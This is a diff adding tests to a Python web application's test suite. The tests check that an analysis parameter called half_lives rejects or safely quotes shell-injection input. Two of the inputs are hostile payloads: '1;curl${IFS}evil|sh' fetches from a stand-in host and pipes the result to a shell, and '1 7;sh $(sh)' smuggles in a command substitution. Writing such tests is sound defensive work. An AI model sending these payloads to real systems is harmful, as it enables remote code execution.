@@ -19,7 +19,8 @@ from crosscount.casebook.feeds import FEEDS
 from crosscount.cli.verbs.estimate import estimate as verb
 from crosscount.desk import estimating
 from crosscount.desk.asks import ASKS, OF_TABLES
-from crosscount.desk.method_settings import SETTINGS
+from crosscount.desk.method_settings import SETTINGS, SettingsForm
+from crosscount.desk.views.analysis import _command
 from crosscount.store.log import read_accesses
 from desk.invented import many_incidents
 from desk.people import PASSWORD
@@ -131,6 +132,27 @@ def test_a_setting_that_makes_no_sense_is_marked_and_nothing_is_answered(many):
     assert "Nothing was worked out" in page
     assert 'class="estimate"' not in page
     assert many.get("/analysis/change_points.v1/plot.svg", {"period": "foo"}).status_code == 404
+
+
+def test_half_lives_are_numbers_and_no_words_of_a_shell(many):
+    page = many.get("/analysis/hawkes_sum.v1/", {"half_lives": "1;curl${IFS}evil|sh"}).content.decode()
+
+    assert "Nothing was worked out" in page
+    assert COMMAND.findall(page) == []
+
+
+def test_a_value_stays_one_word_of_the_command_whatever_is_in_it():
+    words = shlex.split(_command("hawkes_sum.v1", {"half_lives": "1 7;sh $(sh)"}))
+
+    assert words[-2:] == ["--set", "half_lives=1 7;sh $(sh)"]
+
+
+@pytest.mark.parametrize(("said", "taken"), [("1 7", "1 7"), (" 1 , 7,30 ", "1,7,30")])
+def test_a_blank_between_half_lives_never_makes_two_numbers_one(said, taken):
+    form = SettingsForm("hawkes_sum.v1", {"half_lives": said})
+
+    assert form.is_valid()
+    assert form.given == {"half_lives": taken}
 
 
 def test_without_further_figures_there_is_no_table_of_them(many):
